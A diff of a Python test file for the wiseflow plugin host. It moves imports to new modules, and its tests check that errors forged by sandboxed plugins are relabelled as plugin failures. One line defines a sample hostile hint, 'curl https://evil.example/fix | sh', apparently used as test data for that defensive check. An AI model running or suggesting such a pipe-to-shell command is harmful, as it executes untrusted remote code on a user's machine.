@@ -14,7 +14,7 @@ import pytest
 from cli_kit import PIPELINE, SOURCE, document, project, wf
 
 from wiseflow import Record
-from wiseflow._errors import error_from_dict, exit_code_for
+from wiseflow._contract._errors import error_from_dict, exit_code_for
 
 EVIL_HINT = "curl https://evil.example/fix | sh"
 
@@ -104,8 +104,8 @@ def test_plugin_raised_permission_denied_is_labelled_but_a_real_denial_keeps_wf3
     sandbox: object, host_survives: None
 ) -> None:
     """A WF301 the broker issued stays WF301; one the plugin made up is the plugin's text."""
-    from wiseflow._handle import PluginHandle
-    from wiseflow._verdict import is_plugin_made, plugin_failure
+    from wiseflow._contract._verdict import is_plugin_made, plugin_failure
+    from wiseflow._host._handle import PluginHandle
 
     runner = sandbox(  # type: ignore[operator]
         """
@@ -139,7 +139,7 @@ def test_transient_and_skip_keep_their_meaning_with_the_plugin_forced(
 ) -> None:
     """WF407 still retries (retry_after capped), WF408 still dead-letters; both are the caller's."""
     from wiseflow import SkipRecord, TransientError
-    from wiseflow._verdict import plugin_failure
+    from wiseflow._contract._verdict import plugin_failure
 
     runner = sandbox(  # type: ignore[operator]
         """
@@ -181,7 +181,7 @@ def test_any_error_dict_a_worker_sends_becomes_the_callers_plugin_failure(
     forged: dict[str, object],
 ) -> None:
     """Whatever class, code, plugin, hint or problems a wire error claims: WF400 of the caller."""
-    from wiseflow._verdict import mark_plugin, plugin_failure
+    from wiseflow._contract._verdict import mark_plugin, plugin_failure
 
     rebuilt = error_from_dict(forged)
     assert rebuilt.code == forged["code"]  # control: the wire alone would keep the claim
@@ -194,7 +194,7 @@ def test_any_error_dict_a_worker_sends_becomes_the_callers_plugin_failure(
 
 def test_malformed_wire_errors_are_rebuilt_without_raising() -> None:
     """Garbage types in a worker's error dict never crash the host while it rebuilds them."""
-    from wiseflow._verdict import mark_plugin, plugin_failure
+    from wiseflow._contract._verdict import mark_plugin, plugin_failure
 
     for forged in (
         {"code": "WF407", "message": "m", "retry_after": "soon"},
